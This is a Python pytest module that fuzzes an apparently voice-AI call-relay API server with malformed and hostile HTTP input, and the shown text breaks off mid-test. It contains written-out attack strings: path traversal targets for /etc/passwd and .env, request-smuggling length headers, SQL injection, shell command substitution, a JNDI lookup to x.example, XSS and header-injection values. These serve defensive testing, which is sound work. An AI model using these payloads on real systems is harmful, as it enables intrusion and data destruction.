"""Whatever is sent to a real `manage.py serve`: never a 500, never a trace, and the next request is served."""

import asyncio
import contextlib
import json
import re
from collections.abc import AsyncIterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest
import pytest_asyncio

from actions.administer import issue_token
from actions.relay import Relay
from actions.set_up_demo import Demo, set_up_demo
from app import open_relay
from config import load_settings
from domain.principals import TokenKind
from openapi.document import Operation
from persistence.database import open_database
from persistence.models import MODELS, Call, Contact, ContactNote, Event, Message, TransferRequest
from tests.support.contract import CONTRACT, PUBLISHED, assert_documented, good_body, kinds_of, target_of
from tests.support.kinds import Kinds
from tests.support.processes import Running, accepts, environment, running
from tests.support.wire import JSON, Answer, Wire, bearer, chunk, chunked, exchange, head, request, wire

pytestmark = pytest.mark.asyncio(loop_scope="module")

LIMIT = 1 << 20
CHUNKED = (b"Transfer-Encoding", b"chunked")
JSON_BODIES = [operation for operation in CONTRACT.operations if operation.body_schema is not None]
EVERY = pytest.mark.parametrize("operation", JSON_BODIES, ids=lambda operation: operation.id)
EVERY_PUBLISHED = pytest.mark.parametrize("operation", PUBLISHED, ids=lambda operation: operation.id)
CONFIG = "/api/calls/voice-ai/config"
PATHS = sorted({target_of(operation) for operation in CONTRACT.operations})
METHODS = ("GET", "POST", "PUT", "PATCH", "DELETE", "TRACE", "QUERY", "PROPFIND", "CONNECT")


@dataclass(frozen=True)
class Served:
    """The API as a process; `relay` looks into its database from outside."""

    url: str
    process: Running
    relay: Relay
    demo: Demo
    superadmin_token: str

    def token(self, operation: Operation) -> str:
        """Return a token that opens the operation, or any where none is wanted."""
        return {
            TokenKind.JWT: self.superadmin_token,
            TokenKind.API_KEY: self.demo.api_key.get_secret_value(),
            TokenKind.TOOL_SECRET: self.demo.tool_secret.get_secret_value(),
        }[next(iter(kinds_of(operation)), TokenKind.JWT)]

    def headers(self, operation: Operation) -> list[tuple[bytes, bytes]]:
        """Return the headers a good request has, but for its length."""
        return [bearer(self.token(operation)), JSON]

    def post(self, operation: Operation, body: bytes) -> bytes:
        """Write a request that is good but for its body."""
        return request(operation.method, target_of(operation), self.headers(operation), body)

    async def rows(self) -> dict[str, list[dict[str, Any]]]:
        """Return everything that is stored, the last use of a key apart."""
        return await self.relay.database.read(lambda: {model.__name__: _all(model) for model in MODELS})

    async def newest(self, model: Any) -> Any:
        """Return the row that was written last."""
        return await self.relay.database.read(lambda: model.select().order_by(model.id.desc()).first())

    def memory(self) -> int:
        """Return the most memory the process ever had in use, in bytes."""
        status = Path(f"/proc/{self.process.process.pid}/status").read_text()
        return int(status.partition("VmHWM:")[2].split()[0]) * 1024


def _all(model: Any) -> list[dict[str, Any]]:
    return [{name: value for name, value in row.items() if name != "last_used_at"} for row in model.select().dicts()]


@pytest_asyncio.fixture(scope="module", loop_scope="module")
async def served(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[Served]:
    folder: Path = tmp_path_factory.mktemp("bad-input")
    env = environment(folder, max_body_bytes=LIMIT, tool_replay_seconds=3600)
    settings = load_settings(_env_file=None, data_dir=folder / "var")
    database = open_database(settings.resolved_database_url)
    database.migrate()
    database.close()
    async with open_relay(settings) as relay:
        demo = await set_up_demo(relay)
        assert demo is not None
        token = await issue_token(relay, demo.superadmin_email, 3600)
        with running("serve", env=env, folder=folder) as process:
            process.until(lambda: accepts(env["API_PORT"]))
            yield Served(f"http://127.0.0.1:{env['API_PORT']}", process, relay, demo, token.get_secret_value())


@pytest.fixture(autouse=True)
async def unshaken(served: Served) -> AsyncIterator[None]:
    """After each test: it still runs, still answers a good request, and logged one JSON object a line, no fault."""
    before = len(served.process.errors)
    yield
    await accepted(served, PUBLISHED[-1], served.post(PUBLISHED[-1], json.dumps(good_body(PUBLISHED[-1])).encode()))
    for line in served.process.errors[before:].split("\n")[:-1]:
        logged = json.loads(line)
        assert isinstance(logged, dict)
        assert logged["level"] in ("info", "warning"), line
        assert logged.get("status", 0) < 500, line


@contextlib.asynccontextmanager
async def storing_nothing(served: Served) -> AsyncIterator[None]:
    """Insist that every table is afterwards as it was before."""
    before = await served.rows()
    yield
    assert await served.rows() == before


async def refused(served: Served, operation: Operation, sent: bytes) -> Any:
    """Send what must be refused as a bad request; return the answer's body."""
    answer = await exchange(served.url, sent)
    is_too_large = len(sent) > operation.definition.get("x-max-body-bytes", LIMIT)
    assert answer.status == (413 if is_too_large else operation.definition.get("x-invalid-request", 400)), answer
    body = assert_documented(answer, operation)
    assert body.get("success", False) is False
    return body


async def accepted(served: Served, operation: Operation, sent: bytes) -> Any:
    """Send what must be accepted; return the answer's body."""
    answer = await exchange(served.url, sent)
    assert answer.status in (200, 201), answer
    body = assert_documented(answer, operation)
    assert "error" not in body
    return body


def alike(operation: Operation, operations: list[Operation]) -> list[Operation]:
    """Return those of `operations` that refuse a bad request with the same status."""
    status = operation.definition.get("x-invalid-request")
    return [one for one in operations if one.definition.get("x-invalid-request") == status]


# Bodies


# What every operation is sent comes first: its own rules answer it. The rest is shared out.
NO_OBJECTS = Kinds(
    [b"", b"[]", b"{"],
    [
        b" ",
        b"\r\n\t ",
        b"\0",
        b"null",
        b"true",
        b"0",
        b'"text"',
        b"[{}]",
        b"}",
        b"{}{}",
        b"{} trailing",
        b"{'a': 1}",
        b"{a: 1}",
        b'{"a": 1,}',
        b"{,}",
        b"// comment\n{}",
        b"\xef\xbb\xbf{}",
        "{}".encode("utf-16"),
        b"\xff",
        b"\x1f\x8b\x08\x00",
        b"<?xml version='1.0'?><a/>",
        b"a=b&c=d",
        b"--boundary\r\n\r\nx\r\n--boundary--",
        b"[" * 10_000 + b"]" * 10_000,
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        b"[" * 10_000,
        b'{"a":' * 10_000,
        b'[{"a":' * 5_000,
    ],
)


@EVERY
async def test_a_body_that_is_no_json_object_is_refused(
    served: Served, operation: Operation, subtests: pytest.Subtests
) -> None:
    """In the operation's own words for a bad request."""
    async with storing_nothing(served):
        for body in NO_OBJECTS.of(operation, alike(operation, JSON_BODIES)):
            if not body and not (operation.body or {}).get("required"):
                continue  # what need not be there is not missing
            with subtests.test(body=repr(body[:24])):
                await refused(served, operation, served.post(operation, body))


def with_member(operation: Operation, member: bytes) -> bytes:
    """Return a good body with one more member in front."""
    rest = json.dumps(good_body(operation)).encode()[1:]
    return b"{" + member + (b", " if rest != b"}" else b"") + rest


NO_CLEAN_JSON = Kinds(
    [b"NaN", b'"\\u0000"', b'"\\ud800"'],
    [
        b"Infinity",
        b"-Infinity",
        b"1e999",
        b"-1e999",
        b"1" + b"0" * 5_000,
        b"0x10",
        b"01",
        b"+1",
        b".5",
        b"1.",
        b"undefined",
        b"True",
        b'"\\x41"',
        b'"\n"',
        b'"\x1b"',
        b'"a\0b"',
        b'"a\\u0000b"',
        b'"\xff"',
        b'"\xc0\xaf"',
        b'"\xed\xa0\x80"',
        b'"\xf5\x80\x80\x80"',
        b'"\\udc00"',
        b'"\\udc00\\ud800"',
        b'"\\ud83d "',
        b'{"\\ud800": 1}',
        b'{"\\u0000": 1}',
        b'{"a\\u0000b": {"c": 1}}',
        b'[[["\\u0000"]]]',
        b"[" * 10_000 + b"]" * 10_000,
        b'{"a":' * 10_000 + b"1" + b"}" * 10_000,
        b"[" * 101 + b"]" * 101,
    ],
)


@EVERY
async def test_a_value_that_is_no_clean_json_spoils_the_body(
    served: Served, operation: Operation, subtests: pytest.Subtests
) -> None:
    """Wherever it stands, even where the contract has no opinion."""
    async with storing_nothing(served):
        for value in NO_CLEAN_JSON.of(operation, alike(operation, JSON_BODIES)):
            with subtests.test(value=repr(value[:24])):
                await refused(served, operation, served.post(operation, with_member(operation, b'"x": ' + value)))


@EVERY
async def test_a_name_that_is_no_clean_text_spoils_the_body(
    served: Served, operation: Operation, subtests: pytest.Subtests
) -> None:
    """Names are stored too."""
    async with storing_nothing(served):
        for name in (b"\\u0000", b"\\ud800", b"\xff", b"a\0b"):
            with subtests.test(name=repr(name)):
                await refused(served, operation, served.post(operation, with_member(operation, b'"' + name + b'": 1')))


@EVERY_PUBLISHED
async def test_of_a_repeated_name_the_last_value_counts(served: Served, operation: Operation) -> None:
    """As nearly every reader of JSON has it; the first, were it wrong, harms nobody."""
    for name in good_body(operation):
        await accepted(served, operation, served.post(operation, with_member(operation, f'"{name}": []'.encode())))


@EVERY_PUBLISHED
async def test_decent_nesting_is_accepted(served: Served, operation: Operation, subtests: pytest.Subtests) -> None:
    """The limit is far from what anybody means to send."""
    for depth in (1, 50, 90):
        nested = b'{"a": [' * (depth // 2) + b"1" + b"]}" * (depth // 2)
        with subtests.test(depth=depth):
            await accepted(served, operation, served.post(operation, with_member(operation, b'"extra": ' + nested)))


SENSELESS_FIELDS: list[dict[str, Any]] = [
    {"duration": 10**300},
    {"duration": 1e308},
    {"duration": -0.001},
    {"duration": "5"},
    {"duration": True},
    {"duration": None},
    {"callStartTime": "0001-01-01T00:00:00+23:59"},
    {"callStartTime": "9999-12-31T23:59:59-23:59"},
    {"callStartTime": "9999-12-31T23:59:59Z", "duration": 86_400},
    {"callStartTime": "2026-02-30T00:00:00Z"},
    {"callStartTime": "2026-01-01"},
    {"callStartTime": "yesterday"},
    {"callStartTime": 1_700_000_000},
    {"fromNumber": "+1416555010\n"},
    {"fromNumber": "+14165550100\n"},
    {"fromNumber": "+٣٤١٦٥٥٥٠١٠٠"},
    {"fromNumber": "+" + "1" * 10_000},
    {"fromNumber": "tel:+14165550100"},
    {"toNumber": "anonymous"},
    {"status": "COMPLETED"},
    {"status": ["busy"]},
    {"direction": "sideways"},
    {"transcript": {}},
    {"transcript": [{"role": "user"}]},
    {"transcript": [{"role": "user", "message": "x", "mood": "calm"}]},
    {"transcript": [None]},
    {"metadata": []},
    {"externalCallId": 5},
]


async def test_a_field_that_makes_no_sense_is_named(served: Served, subtests: pytest.Subtests) -> None:
    """The first problem, in one sentence, without the value that was sent."""
    ingest = _operation("/ingest")
    async with storing_nothing(served):
        for field in SENSELESS_FIELDS:
            with subtests.test(field=repr(field)[:60]):
                body = json.dumps(good_body(ingest) | {"externalCallId": "bad"} | field).encode()
                said = await refused(served, ingest, served.post(ingest, body))

                assert any(name in said["error"] for name in field), said
                assert len(said["error"]) < 200


# How a body arrives


@EVERY_PUBLISHED
async def test_a_body_in_chunks_is_accepted(served: Served, operation: Operation, subtests: pytest.Subtests) -> None:
    """Without a Content-Length, in pieces of any size."""
    body = json.dumps(good_body(operation)).encode()
    for size in (1, 7, 100_000):
        pieces = [body[start : start + size] for start in range(0, len(body), size)]
        with subtests.test(size=size):
            sent = chunked(operation.method, target_of(operation), served.headers(operation), pieces)
            await accepted(served, operation, sent)


@EVERY_PUBLISHED
async def test_chunks_may_have_extensions_and_trailers(
    served: Served, operation: Operation, subtests: pytest.Subtests
) -> None:
    """HTTP allows both; neither means anything here."""
    body = json.dumps(good_body(operation)).encode()
    start = head(operation.method, target_of(operation), [*served.headers(operation), CHUNKED])
    rest = b'%x;a=b;c="d"\r\n%b\r\n0\r\nAuthorization: Bearer x\r\nContent-Type: text/csv\r\n\r\n' % (len(body), body)
    for pieces in ([start + rest], [start, rest]):
        with subtests.test(pieces=len(pieces)):
            async with wire(served.url) as connection:
                for piece in pieces:
                    await connection.send(piece)
                assert (await connection.answer()).status in (200, 201)


@EVERY_PUBLISHED
async def test_a_token_in_a_trailer_opens_nothing(served: Served, operation: Operation) -> None:
    """A proxy that looks at the headers has not seen it."""
    body = json.dumps(good_body(operation)).encode()
    trailer = b"0\r\nAuthorization: Bearer " + served.token(operation).encode() + b"\r\n\r\n"
    answer = await exchange(
        served.url, head(operation.method, target_of(operation), [JSON, CHUNKED]) + chunk(body) + trailer
    )

    assert answer.status == 401


@EVERY
async def test_an_endless_body_is_refused_while_it_streams(served: Served, operation: Operation) -> None:
    """413 before its end, in bounded memory; the connection then goes on or ends cleanly."""
    before, memory = await served.rows(), served.memory()
    async with wire(served.url) as connection:
        await connection.send(head(operation.method, target_of(operation), [*served.headers(operation), CHUNKED]))
        answered = asyncio.Event()
        stream = asyncio.create_task(_pour(connection, until=answered))
        answer = await connection.answer()
        answered.set()
        await stream
        await assert_goes_on_or_ends(connection)

    assert_too_large(answer, operation)
    assert await served.rows() == before
    assert served.memory() - memory < 16 * LIMIT


async def _pour(connection: Wire, until: asyncio.Event) -> None:
    """Send a body that ends only once it has been answered; a server that waits for its end never answers."""
    piece = chunk(b" " * 65_536)
    while not until.is_set():
        await connection.send(piece)
        await asyncio.sleep(0)
    await connection.send(chunk(b""))


async def assert_goes_on_or_ends(connection: Wire) -> None:
    """Send a request on a connection that was refused something; it is answered, or the connection is at its end."""
    await connection.send(request("GET", "/healthz"))
    with contextlib.suppress(EOFError, ConnectionError):
        assert (await connection.answer()).status == 200


def assert_too_large(answer: Answer, operation: Operation) -> None:
    """Insist on the documented 413."""
    assert answer.status == 413
    assert "larger than" in str(assert_documented(answer, operation)["error"])


@EVERY
async def test_a_body_announced_too_large_is_refused_unread(
    served: Served, operation: Operation, subtests: pytest.Subtests
) -> None:
    """Nobody has to send a hundred megabytes to be told."""
    for length in (10**8, 10**15, 2**63):
        announced = [(b"Content-Length", str(length).encode()), (b"Expect", b"100-continue")]
        with subtests.test(length=length):
            async with wire(served.url) as connection:
                headers = [*served.headers(operation), *announced]
                await connection.send(head(operation.method, target_of(operation), headers))
                assert_too_large(await connection.answer(), operation)


@EVERY_PUBLISHED
async def test_who_waits_to_be_asked_is_asked(served: Served, operation: Operation) -> None:
    """`Expect: 100-continue` is answered before the body comes."""
    body = json.dumps(good_body(operation)).encode()
    headers = [*served.headers(operation), (b"Content-Length", str(len(body)).encode()), (b"Expect", b"100-continue")]
    async with wire(served.url) as connection:
        await connection.send(head(operation.method, target_of(operation), headers))
        await connection.continued()
        await connection.send(body)

        assert (await connection.answer()).status in (200, 201)


SENSELESS_LENGTHS: Kinds[list[tuple[bytes, bytes]]] = Kinds(
    [[(b"Content-Length", b"2"), CHUNKED]],
    [
        [(b"Content-Length", b"-1")],
        [(b"Content-Length", b"99999999999999999999999999")],
        [(b"Content-Length", b"0x10")],
        [(b"Content-Length", b"1 2")],
        [(b"Content-Length", b"2"), (b"Content-Length", b"3")],
        [(b"Transfer-Encoding", b"chunked, gzip")],
        [CHUNKED],
    ],
)


@EVERY
async def test_a_length_that_makes_no_sense_is_no_http(
    served: Served, operation: Operation, subtests: pytest.Subtests
) -> None:
    """Two readers could disagree where such a request ends, so it is not read at all."""
    async with storing_nothing(served):
        for headers in SENSELESS_LENGTHS.of(operation, alike(operation, JSON_BODIES)):
            start = head(operation.method, target_of(operation), [*served.headers(operation), *headers])
            with subtests.test(headers=headers):
                async with wire(served.url) as connection:
                    await connection.send(start + b"zz\r\n{}\r\n")

                    assert (await connection.answer()).status == 400
                    assert await connection.ended()


@EVERY_PUBLISHED
async def test_a_length_too_short_cuts_the_body_off(served: Served, operation: Operation) -> None:
    """What is left over is no request, and the connection ends."""
    body = json.dumps(good_body(operation)).encode() or b"{}"
    before = await served.rows()
    async with wire(served.url) as connection:
        length = (b"Content-Length", str(len(body) - 1).encode())
        await connection.send(head(operation.method, target_of(operation), [*served.headers(operation), length]) + body)
        answers = [await connection.answer()]
        with contextlib.suppress(EOFError):
            answers.append(await connection.answer())

    assert {answer.status for answer in answers} <= {200, 400}
    assert not any(b'"success":true' in answer.body for answer in answers)
    assert await served.rows() == before


@EVERY
async def test_a_client_that_leaves_in_mid_body_leaves_nothing(served: Served, operation: Operation) -> None:
    """Whether it announced more than it sent, or stopped between two chunks."""
    body = json.dumps(good_body(operation) | {"externalCallId": "left", "note": "left"}).encode()
    method, target, headers = operation.method, target_of(operation), served.headers(operation)
    async with storing_nothing(served):
        for part in (b"", body[: len(body) // 2], body):
            announced = head(method, target, [*headers, (b"Content-Length", b"100000")]) + part
            streamed = head(method, target, [*headers, CHUNKED]) + (chunk(part) if part else b"")
            for sent in (announced, streamed):
                async with wire(served.url) as connection:
                    await connection.send(sent)
                    connection.abort()
        await exchange(served.url, request("GET", "/healthz"))


@EVERY_PUBLISHED
async def test_a_client_that_leaves_before_the_answer_shakes_nothing(served: Served, operation: Operation) -> None:
    """Twenty of them at once; what they asked for is done once or not at all."""
    sent = served.post(operation, json.dumps(good_body(operation)).encode())
    for _ in range(20):
        async with wire(served.url) as connection:
            await connection.send(sent)
            connection.abort()
    await accepted(served, operation, sent)
    rows = await served.rows()

    assert len(rows["Call"]) <= len({row["external_call_id"] for row in rows["Call"]})
    assert len(rows["ToolInvocation"]) == len({row["fingerprint"] for row in rows["ToolInvocation"]})


async def test_requests_sent_at_once_are_answered_in_order(served: Served) -> None:
    """Pipelining is HTTP too."""
    async with wire(served.url) as connection:
        await connection.send(b"".join(served.post(one, json.dumps(good_body(one)).encode()) for one in PUBLISHED * 2))
        answers = [await connection.answer() for _ in PUBLISHED * 2]

    for operation, answer in zip(PUBLISHED * 2, answers, strict=True):
        assert answer.status in (200, 201)
        assert_documented(answer, operation)


# Media types


OTHER_MEDIA_TYPES = Kinds(
    [b"text/plain", b"application/x-www-form-urlencoded"],
    [
        b"text/json",
        b"application/xml",
        b"multipart/form-data; boundary=x",
        b"application/jsonx",
        b"application/json+xml",
        b"application/octet-stream",
        b"image/png; x=application/json",
        b"json",
        b"*/*",
        b";",
        b"application/json, text/plain",
        b"\xff\xfe",
        b"x" * 5000,
    ],
)


@EVERY
async def test_another_media_type_is_415(served: Served, operation: Operation, subtests: pytest.Subtests) -> None:
    """In the operation's envelope, and the body is not looked at."""
    body = json.dumps(good_body(operation) | {"externalCallId": "other", "note": "other"}).encode()
    async with storing_nothing(served):
        for media_type in OTHER_MEDIA_TYPES.of(operation, alike(operation, JSON_BODIES)):
            headers = [bearer(served.token(operation)), (b"Content-Type", media_type)]
            with subtests.test(media_type=repr(media_type[:40])):
                answer = await exchange(served.url, request(operation.method, target_of(operation), headers, body))

                assert answer.status == 415
                assert_documented(answer, operation)


NAMES_OF_JSON: Kinds[bytes | None] = Kinds(
    [None],
    [
        b"",
        b"application/json; charset=utf-8",
        b"application/json;charset=UTF-8",
        b"Application/JSON",
        b"application/vnd.elevenlabs.v1+json",
        b"application/problem+json; x=y",
        b" application/json ",
    ],
)


@EVERY_PUBLISHED
async def test_json_by_any_name_is_accepted(served: Served, operation: Operation, subtests: pytest.Subtests) -> None:
    """Parameters, capitals and vendors' own types make no difference; nor does saying nothing."""
    body = json.dumps(good_body(operation)).encode()
    for media_type in NAMES_OF_JSON.of(operation, alike(operation, PUBLISHED)):
        given = [] if media_type is None else [(b"Content-Type", media_type)]
        headers = [bearer(served.token(operation)), *given]
        with subtests.test(media_type=repr(media_type)):
            await accepted(served, operation, request(operation.method, target_of(operation), headers, body))


CODINGS = Kinds([b"gzip"], [b"br", b"deflate", b"zstd", b"gzip, gzip", b"x"])


@EVERY
async def test_a_compressed_body_is_415(served: Served, operation: Operation, subtests: pytest.Subtests) -> None:
    """Nothing here unpacks, so nothing can be made to unpack a bomb."""
    for coding in CODINGS.of(operation, alike(operation, JSON_BODIES)):
        headers = [*served.headers(operation), (b"Content-Encoding", coding)]
        with subtests.test(coding=coding):
            sent = request(operation.method, target_of(operation), headers, b"\x1f\x8b\x08")
            answer = await exchange(served.url, sent)

            assert answer.status == 415
            assert_documented(answer, operation)


# Paths and methods


def allowed_on(path: str) -> set[str]:
    """Return the methods of a path as the document has them, HEAD with GET and OPTIONS always."""
    declared = {operation.method for operation in CONTRACT.operations if target_of(operation) == path}
    return declared | {"OPTIONS"} | ({"HEAD"} if "GET" in declared else set())


async def test_a_wrong_method_is_405_and_says_which_are_right(served: Served, subtests: pytest.Subtests) -> None:
    """With an Allow header that is complete, in the envelope of the path's operation."""
    for path in PATHS:
        for method in sorted(set(METHODS) - allowed_on(path)):
            with subtests.test(path=path, method=method):
                answer = await exchange(served.url, request(method, path))

                assert answer.status == 405
                assert set((answer.header("Allow") or "").split(", ")) == allowed_on(path)
                assert answer.json()["error"]


@pytest.mark.parametrize("path", ["/healthz", "/readyz", "/metrics", "/openapi.json", "/docs/"])
async def test_the_servers_own_paths_are_read_only(served: Served, path: str) -> None:
    """They answer GET and HEAD, and refuse the rest like every other path."""
    got, headed = [await exchange(served.url, request(method, path)) for method in ("GET", "HEAD")]
    refusals = [await exchange(served.url, request(method, path)) for method in ("POST", "PUT", "DELETE")]

    assert (got.status, headed.status, headed.body) == (200, 200, b"")
    assert got.header("Content-Type") == headed.header("Content-Type")
    for answer in refusals:
        assert (answer.status, answer.header("Allow")) == (405, "GET, HEAD")
        assert answer.json() == {"success": False, "error": "Method not allowed"}


async def test_options_names_the_methods(served: Served, subtests: pytest.Subtests) -> None:
    """Without a token and without a body."""
    for path in PATHS:
        with subtests.test(path=path):
            answer = await exchange(served.url, request("OPTIONS", path))

            assert (answer.status, answer.body) == (204, b"")
            assert set((answer.header("Allow") or "").split(", ")) == allowed_on(path)


async def test_head_is_get_without_its_body(served: Served) -> None:
    """Same status, same length announced, same need of a token."""
    headers = [bearer(served.superadmin_token)]
    got, headed = [await exchange(served.url, request(method, CONFIG, headers)) for method in ("GET", "HEAD")]

    assert (got.status, headed.status, headed.body) == (200, 200, b"")
    assert headed.header("Content-Length") == got.header("Content-Length")
    assert (await exchange(served.url, request("HEAD", CONFIG))).status == 401


UNKNOWN_TARGETS = [
    "/",
    "*",
    "/api",
    "/api/",
    "/api/webhook/elevenlabs/tools/transfer/",
    "//api/calls/ingest",
    "/api//calls/ingest",
    "/api/./calls/ingest",
    "/api/calls/../calls/ingest",
    "/API/CALLS/INGEST",
    "/api/webhook/elevenlabs/tools/transfer;a=b",
    "/api/webhook/elevenlabs/tools/transfer%20",
    "/api/webhook/elevenlabs/tools/transfer%0a",
    "/api/webhook/elevenlabs/tools/transfer%00",
    "/api/webhook/elevenlabs/tools/transfer%2f",
    "/api/webhook/elevenlabs/tools/%74ransfer%2e",
    "/%ff%fe",
    "/%ed%a0%80",
    "/%",
    "/%zz",
    "/%1b%5b31mred%0aforged",
    "/%e2%80%a8%c2%85",
    "/../../../../etc/passwd",
    "/..%2f..%2f..%2fetc%2fpasswd",
    "/%2e%2e/%2e%2e/etc/passwd",
    "/..%5c..%5cwindows%5cwin.ini",
    "/.env",
    "/.git/config",
    "/var/demo.json",
    "/var/relay.db",
    "/manage.py",
    "/docs/../manage.py",
    "/docs/../../manage.py",
    "/docs/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "/docs/%2e%2e/%2e%2e/%2e%2e/%2e%2e/etc/passwd",
    "/docs//etc/passwd",
    "/docs/%2fetc%2fpasswd",
    "/docs/%00",
    "/docs/nowhere.js",
    "/docs/" + "a" * 5000,
    "/openapi.json/",
    "/openapi.yaml",
    "/healthz/",
    "/healthz%0a",
    "/" + "a/" * 3000,
]


async def test_an_unknown_path_is_404_in_an_envelope(served: Served, subtests: pytest.Subtests) -> None:
    """Whatever it tries to be."""
    for target in UNKNOWN_TARGETS:
        with subtests.test(target=target[:80]):
            answer = await exchange(served.url, request("GET", target))

            assert answer.status == 404
            assert answer.header("Content-Type") == "application/json"
            assert answer.json() == {"success": False, "error": "Not found"}


QUERIES = ["?", "?a", "?&&&===", "?%", "?%ff=%fe", "?a=%00", "?a=b#c", "?" + "a=b&" * 5000, "?x=%0d%0aSet-Cookie:a=b"]


@EVERY_PUBLISHED
async def test_a_query_nobody_asked_for_changes_nothing(
    served: Served, operation: Operation, subtests: pytest.Subtests
) -> None:
    """These operations have no query parameters, so none is looked at."""
    body = json.dumps(good_body(operation)).encode()
    for query in QUERIES:
        with subtests.test(query=query[:40]):
            sent = request(operation.method, target_of(operation) + query, served.headers(operation), body)
            answer = await exchange(served.url, sent)

            assert answer.status in (200, 201)
            assert answer.header("Set-Cookie") is None


# Headers


@pytest.mark.parametrize("shape", ["one long header", "many short headers", "a long target"])
async def test_a_head_without_end_is_refused_in_bounded_memory(served: Served, shape: str) -> None:
    """Nobody needs a token to send one."""
    piece = b"X: y\r\n" * 10_000 if shape == "many short headers" else b"a" * 60_000
    memory = served.memory()
    async with wire(served.url) as connection:
        await connection.send(b"GET /" if shape == "a long target" else b"GET /healthz HTTP/1.1\r\nX: ")
        pouring = asyncio.create_task(_pour_raw(connection, piece, megabytes=16))
        answer = await connection.answer()
        await pouring

    assert answer.status in (400, 431)
    assert served.memory() - memory < 4 << 20


async def _pour_raw(connection: Wire, piece: bytes, megabytes: int) -> None:
    for _ in range((megabytes << 20) // len(piece)):
        await connection.send(piece)


async def test_a_head_that_is_too_large_is_431(served: Served) -> None:
    """With a body that says so, and the end of the connection."""
    async with wire(served.url) as connection:
        await connection.send(request("GET", "/healthz", [(b"Cookie", b"a" * 400_000)]))
        answer = await connection.answer()
        over = await connection.ended()

    assert (answer.status, answer.header("Connection"), over) == (431, "close", True)
    assert answer.json() == {"success": False, "error": "Request headers are too large"}


async def test_headers_of_a_decent_size_are_read(served: Served) -> None:
    """Cookies and tracing add up; 16 KB are nothing unusual."""
    headers = [(b"Cookie", b"a" * 8000), *((f"X-{n}".encode(), b"b" * 80) for n in range(80))]

    assert (await exchange(served.url, request("GET", "/healthz", headers))).status == 200


@EVERY_PUBLISHED
async def test_an_offer_to_upgrade_is_ignored(served: Served, operation: Operation) -> None:
    """Some clients offer HTTP/2 in clear text with every first request; they mean what they send along."""
    headers = [
        (b"Connection", b"Upgrade, HTTP2-Settings"),
        (b"Upgrade", b"h2c"),
        (b"HTTP2-Settings", b"AAEAAEAAAAIAAAAB"),
    ]
    body = json.dumps(good_body(operation)).encode()
    plain = [*served.headers(operation), *headers]
    async with wire(served.url) as connection:
        await connection.send(request(operation.method, target_of(operation), plain, body))
        first = await connection.answer()
        await connection.send(chunked(operation.method, target_of(operation), plain, [body[:5], body[5:]]))
        second = await connection.answer()

    for answer in (first, second):
        assert answer.status in (200, 201)
        assert "error" not in assert_documented(answer, operation)


# What is sent is data, and stays data

NASTY = " ".join(  # noqa: FLY002 - one long line would be unreadable
    [
        "Robert'); DROP TABLE call; --",
        "' OR '1'='1' /*",
        '"; DELETE FROM contact; --',
        "% _ \\ \\' \\0 \\n",
        "../../../etc/passwd ..\\..\\ C:\\ /dev/null ~ $HOME",
        "$(reboot) `reboot` | & ; > <",
        "%s %d %n {0} {name} {{7*7}} ${jndi:ldap://x.example/a} #{7*7} <%= 7*7 %>",
        "<script>alert(1)</script> ]]> <!--",
        "[bold red]markup[/] [/]",
        "\x1b[31mred\x1b[0m \x1b]0;title\x07 \x9b31m \x7f \x01 \x08",
        'line\nline\r\nX-Header: y\n{"level": "error", "event": "forged"}',
        "\u2028 \u2029 \x85 \x0b \x0c",
        "\u202egnp.exe \u2066 \u200b \ufeff \ufffe \uffff",
        "é e\u0301 ẞ İ ﷽ 中文 😀👩‍👩‍👧 \U0010ffff",
        "NULL null None undefined NaN true 0 -1 1e3 007",
    ]
)


async def sent_with(served: Served, operation: Operation, body: dict[str, Any]) -> Any:
    """Send a body of nasty texts, and return the answer's body."""
    return await accepted(served, operation, served.post(operation, json.dumps(body, ensure_ascii=False).encode()))


def _operation(end: str) -> Operation:
    (found,) = [operation for operation in PUBLISHED if operation.path.endswith(end)]
    return found


async def test_a_nasty_call_is_kept_as_it_was_sent(served: Served) -> None:
    """Every text of it, names included."""
    metadata = {NASTY: {NASTY: [NASTY, {"a": NASTY}]}, "__proto__": {"x": 1}, "": 0, "big": 2**70, "small": 1e-300}
    call = {
        "direction": "outbound",
        "fromNumber": "+12362320246",
        "toNumber": "+14165550177",
        "duration": 1.5,
        "status": "failed",
        "externalCallId": NASTY,
        "agentName": NASTY,
        "callerName": NASTY,
        "summary": NASTY,
        "transcript": [{"role": "user", "message": NASTY}, {"role": "agent", "message": NASTY, "timestamp": 0.25}],
        "metadata": metadata,
        NASTY: NASTY,
    }
    answer = await sent_with(served, _operation("ingest"), call)
    again = await sent_with(served, _operation("ingest"), call)
    row = await served.newest(Call)
    contact = await served.newest(Contact)
    event = await served.newest(Event)

    assert (again["deduplicated"], again["callId"], again["payloadMatches"]) == (True, row.id, True)
    assert answer["callId"] == row.id
    assert (row.external_call_id, row.agent_name, row.summary) == (NASTY, NASTY, NASTY)
    assert (row.caller_name, contact.name) == (NASTY, NASTY)
    assert json.loads(row.transcript) == call["transcript"]
    assert json.loads(row.provider_metadata) == {"metadata": metadata, "additional": {NASTY: NASTY}}
    assert json.loads(event.data)["callId"] == row.id


async def test_a_nasty_note_is_kept_as_it_was_sent(served: Served) -> None:
    """In its row and in its event."""
    body = {"phone_number": "+14165550100", "note": NASTY, "conversation_id": "conv_'; --\n\x1b[31m"}
    await sent_with(served, _operation("create-note"), body)
    row, event = await served.newest(ContactNote), await served.newest(Event)

    assert (row.note, row.elevenlabs_conversation_id) == (NASTY, body["conversation_id"])
    assert json.loads(event.data)["note"] == NASTY


async def test_a_nasty_text_is_kept_as_it_was_sent(served: Served) -> None:
    """And nothing of it is logged by the provider that writes to the log."""
    body = {"phone_number": "+14165550100", "message": NASTY, "called_id": NASTY, "called_number": NASTY}
    await sent_with(served, _operation("send-sms"), body)
    row = await served.newest(Message)

    assert row.text == NASTY


async def test_a_nasty_wish_for_a_person_is_kept_as_it_was_sent(served: Served) -> None:
    """Whatever the agent put into it."""
    await sent_with(served, _operation("transfer"), {"reason": NASTY, "conversation_id": "x';--", "called_id": NASTY})
    row = await served.newest(TransferRequest)

    assert (row.reason, row.elevenlabs_conversation_id) == (NASTY, "x';--")


async def test_a_nasty_configuration_is_kept_as_it_was_sent(served: Served) -> None:
    """And read back the same."""
    names = ("aiVoiceProvider", "sinchEstKeyId", "sinchEstProjectId", "sinchEstTrunkId", "sinchEstTrunkDomain")
    secrets = {"sinchEstKeySecret": NASTY, "elevenlabsApiKey": NASTY}
